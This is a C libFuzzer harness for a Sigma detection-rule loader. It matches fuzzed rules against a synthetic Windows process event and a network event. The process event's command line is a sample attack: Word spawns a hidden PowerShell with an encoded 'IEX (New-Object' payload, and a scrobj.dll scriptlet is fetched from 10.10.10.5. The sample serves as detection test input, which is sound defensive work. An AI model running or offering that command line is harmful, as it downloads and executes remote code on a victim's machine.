/*
 * fuzz_rules.c - libFuzzer target for the Sigma rule loader and matcher.
 *
 * The input is one YAML rule file; whatever loads is matched against a fixed process event
 * (and a network event, for cidr) so the compiled patterns and condition tree are exercised
 * too. Seeds are the bundled pack. Load errors are expected; crashes, leaks and UB are not.
 */
#include <stddef.h>
#include <stdint.h>

#include "xf/rules.h"

static void count(const struct xf_rule_info *rule, void *ud)
{
    (void)rule;
    (*(size_t *)ud)++;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    struct xf_ruleset *rs = NULL;
    struct xf_rule_errors errs = {0};
    struct xf_event ev;
    size_t n = 0;

    if (xf_ruleset_load_buffer("fuzz.yml", (const char *)data, size, &rs, &errs) == 0) {
        xf_event_init(&ev);
        ev.category = XF_CAT_PROCESS;
        xf_event_set(&ev, XF_F_EVENT_ID, "1", (size_t)-1);
        xf_event_set(&ev, XF_F_IMAGE,
                     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", (size_t)-1);
        xf_event_set(&ev, XF_F_PARENT_IMAGE, "C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
                     (size_t)-1);
        xf_event_set(&ev, XF_F_COMMAND_LINE,
                     "powershell -noP -sta -w 1 -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA "
                     "\xe2\x80\x94"
                     "c /i:http://10.10.10.5/x.sct scrobj.dll",
                     (size_t)-1);
        xf_ruleset_match(rs, &ev, count, &n);
        ev.category = XF_CAT_NETWORK;
        xf_event_set(&ev, XF_F_DESTINATION_IP, "::ffff:10.1.2.3", (size_t)-1);
        xf_event_set(&ev, XF_F_DESTINATION_PORT, "8080", (size_t)-1);
        xf_event_set(&ev, XF_F_SOURCE_IP, "fe80::1%3", (size_t)-1);
        xf_ruleset_match(rs, &ev, count, &n);
        xf_event_close(&ev);
        xf_ruleset_destroy(rs);
    }
    xf_rule_errors_close(&errs);
    return 0;
}
